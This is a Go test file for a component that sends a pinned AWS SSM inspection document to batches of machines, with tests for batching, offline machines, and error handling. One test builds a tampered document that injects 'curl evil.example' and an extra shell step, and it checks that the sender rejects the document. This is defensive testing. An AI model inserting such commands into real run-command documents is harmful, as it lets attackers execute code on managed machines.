package send_test

import (
	"context"
	"errors"
	"fmt"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"

	"github.com/keyward/keyward/documents"
	"github.com/keyward/keyward/functions/internal/fake"
	"github.com/keyward/keyward/functions/internal/send"
	"github.com/keyward/keyward/shared/fault"
	"github.com/keyward/keyward/shared/inspection"
	"github.com/keyward/keyward/shared/policy"
	"github.com/keyward/keyward/shared/record"
)

func sender(w *fake.World) *send.Sender {
	return &send.Sender{Commander: w.SSM, Recorder: w.Store, Document: "inspect", Digest: documents.InspectDigest()}
}

func machines(n int) []string {
	var ids []string
	for i := range n {
		ids = append(ids, fmt.Sprintf("i-%017x", i))
	}
	return ids
}

func TestSend(t *testing.T) {
	t.Parallel()
	w := fake.New()
	sent, err := sender(w).Send(t.Context(), []string{fake.ID}, policy.Needs{}, record.Look, "execution-1", fake.Start)
	if err != nil || len(sent) != 1 {
		t.Fatalf("Send = %v, %v, want one command", sent, err)
	}
	c := w.Store.Sends["command-1"]
	want := record.Command{
		ID: "command-1", Nonce: c.Nonce, Purpose: record.Look, Machines: []string{fake.ID}, Execution: "execution-1",
		Document: "inspect:1", SentAt: fake.Start, TotalBy: fake.Start.Add(3 * time.Minute), Open: true,
	}
	if diff := cmp.Diff(want, c); diff != "" || len(c.Nonce) != 32 {
		t.Errorf("recorded (-want +got):\n%s\nnonce %q", diff, c.Nonce)
	}
	parameters := map[string]string{"Nonce": c.Nonce, "Collect": strings.Join(documents.Always(), ","), "Ask": "-"}
	if diff := cmp.Diff(parameters, w.SSM.Sends[0]); diff != "" {
		t.Errorf("parameters (-want +got):\n%s", diff)
	}
}

func TestSendBatches(t *testing.T) {
	t.Parallel()
	w := fake.New()
	all := machines(120)
	sent, err := sender(w).Send(t.Context(), all, policy.Needs{}, record.Scheduled, "", fake.Start)
	if err != nil {
		t.Fatal(err)
	}
	var sizes []int
	nonces := map[string]bool{}
	for _, c := range sent {
		sizes, nonces[c.Nonce] = append(sizes, len(c.Machines)), true
	}
	if !slices.Equal(sizes, []int{50, 50, 20}) || len(nonces) != 3 {
		t.Errorf("batches = %v with %d nonces, want 50, 50, 20 with one each", sizes, len(nonces))
	}
	if got := slices.Concat(w.SSM.Batches...); !slices.Equal(got, all) {
		t.Errorf("sent to %d machines, want each of 120 once", len(got))
	}
	w.Times(t, "ssm.Document", 1)
}

func TestSendRecordsWhoIsOffline(t *testing.T) {
	t.Parallel()
	w := fake.New()
	all := machines(3)
	w.SSM.Offline[all[1]] = true
	sent, err := sender(w).Send(t.Context(), all, policy.Needs{}, record.Scheduled, "", fake.Start)
	if err != nil || len(sent) != 2 {
		t.Fatalf("Send = %v, %v, want a command and a record of silence", sent, err)
	}
	silent := sent[1]
	if !strings.HasPrefix(silent.ID, inspection.OfflineID("")) || !slices.Equal(silent.Machines, all[1:2]) || silent.TotalBy != fake.Start {
		t.Errorf("record of silence = %+v", silent)
	}
	if !slices.Equal(w.SSM.Batches[0], []string{all[0], all[2]}) {
		t.Errorf("sent to %v, want those that are online", w.SSM.Batches[0])
	}

	w = fake.New()
	w.SSM.Offline[fake.ID] = true
	if _, err := sender(w).Send(t.Context(), []string{fake.ID}, policy.Needs{}, record.Check, "", fake.Start); err != nil {
		t.Fatal(err)
	}
	w.Never(t, "ssm.Send")
	w.Times(t, "store.Sent offline-", 1)
}

func TestSendSplitsABatchForOneMachinesSake(t *testing.T) {
	t.Parallel()
	w := fake.New()
	unknown := fake.AWS(fault.Invalid, "InvalidInstanceId")
	// 4 are refused, of them the first two, of them the first; the rest is taken.
	w.Fail("ssm.Send", unknown, unknown, unknown)
	all := machines(4)
	sent, err := sender(w).Send(t.Context(), all, policy.Needs{}, record.Scheduled, "", fake.Start)
	if err != nil {
		t.Fatal(err)
	}
	var got [][]string
	for _, c := range sent {
		got = append(got, c.Machines)
	}
	if diff := cmp.Diff([][]string{{all[0]}, {all[1]}, {all[2], all[3]}}, got); diff != "" {
		t.Errorf("commands (-want +got):\n%s", diff)
	}
	if !strings.HasPrefix(sent[0].ID, inspection.OfflineID("")) || sent[0].TotalBy != fake.Start {
		t.Errorf("the refused machine = %+v, want a record of silence", sent[0])
	}
}

// Our own mistakes and AWS's must never look like the silence of machines.
func TestSendRefusalsThatAreNoSilence(t *testing.T) {
	t.Parallel()
	tests := []struct {
		name string
		err  error
		kind fault.Kind
	}{
		{"a document that SSM refuses", fake.AWS(fault.Invalid, "InvalidDocumentVersion"), fault.Invalid},
		{"parameters that SSM refuses", fake.AWS(fault.Invalid, "InvalidParameters"), fault.Invalid},
		{"throttling", fake.AWS(fault.Transient, "ThrottlingException"), fault.Transient},
		{"no permission", fake.AWS(fault.Denied, "AccessDeniedException"), fault.Denied},
		{"no code at all", errors.New("connection reset"), fault.Internal},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			for _, n := range []int{1, 3} {
				w := fake.New()
				w.Always("ssm.Send", tt.err)
				_, err := sender(w).Send(t.Context(), machines(n), policy.Needs{}, record.Scheduled, "", fake.Start)
				fake.Kind(t, err, tt.kind)
				calls := 1
				if tt.kind == fault.Denied {
					calls = 2*n - 1 // down to each machine: IAM denies the whole call for one without its tag
				}
				w.Times(t, "ssm.Send", calls)
				w.Never(t, "store.Sent")
			}
		})
	}
}

func TestSendPinsTheDocument(t *testing.T) {
	t.Parallel()
	tests := []struct{ name, content string }{
		{"another script", strings.Replace(documents.InspectDocument(), `"runCommand": [`, `"runCommand": ["curl evil.example",`, 1)},
		{"a second step", strings.Replace(documents.InspectDocument(), `"mainSteps": [`, `"mainSteps": [{"action":"aws:runShellScript","name":"x"},`, 1)},
		{"no document", "{"},
		{"an empty one", "{}"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			t.Parallel()
			w := fake.New()
			w.SSM.Content = tt.content
			_, err := sender(w).Send(t.Context(), []string{fake.ID}, policy.Needs{}, record.Scheduled, "", fake.Start)
			fake.Kind(t, err, fault.Conflict)
			w.Never(t, "ssm.Send", "ssm.Online", "store.Sent")
		})
	}
}

func TestSendFailures(t *testing.T) {
	t.Parallel()
	for _, call := range []string{"ssm.Document", "ssm.Online", "store.Sent"} {
		t.Run(call, func(t *testing.T) {
			t.Parallel()
			w := fake.New()
			w.Fail(call, fake.Down)
			_, err := sender(w).Send(t.Context(), []string{fake.ID}, policy.Needs{}, record.Scheduled, "", fake.Start)
			fake.Kind(t, err, fault.Transient)
		})
	}
	t.Run("the second batch", func(t *testing.T) {
		t.Parallel()
		w := fake.New()
		w.Fail("ssm.Send", nil, fake.Down)
		sent, err := sender(w).Send(context.Background(), machines(60), policy.Needs{}, record.Scheduled, "", fake.Start)
		fake.Kind(t, err, fault.Transient)
		if len(sent) != 1 {
			t.Errorf("sent = %v, want the first batch, so that it is logged", sent)
		}
	})
	t.Run("recording who is offline", func(t *testing.T) {
		t.Parallel()
		w := fake.New()
		all := machines(2)
		w.SSM.Offline[all[1]] = true
		w.Fail("store.Sent", nil, fake.Down)
		_, err := sender(w).Send(t.Context(), all, policy.Needs{}, record.Scheduled, "", fake.Start)
		fake.Kind(t, err, fault.Transient)
	})
	t.Run("the second half of a split batch", func(t *testing.T) {
		t.Parallel()
		w := fake.New()
		w.Fail("ssm.Send", fake.AWS(fault.Invalid, "InvalidInstanceId"), fake.Down)
		_, err := sender(w).Send(t.Context(), machines(2), policy.Needs{}, record.Scheduled, "", fake.Start)
		fake.Kind(t, err, fault.Transient)
	})
}
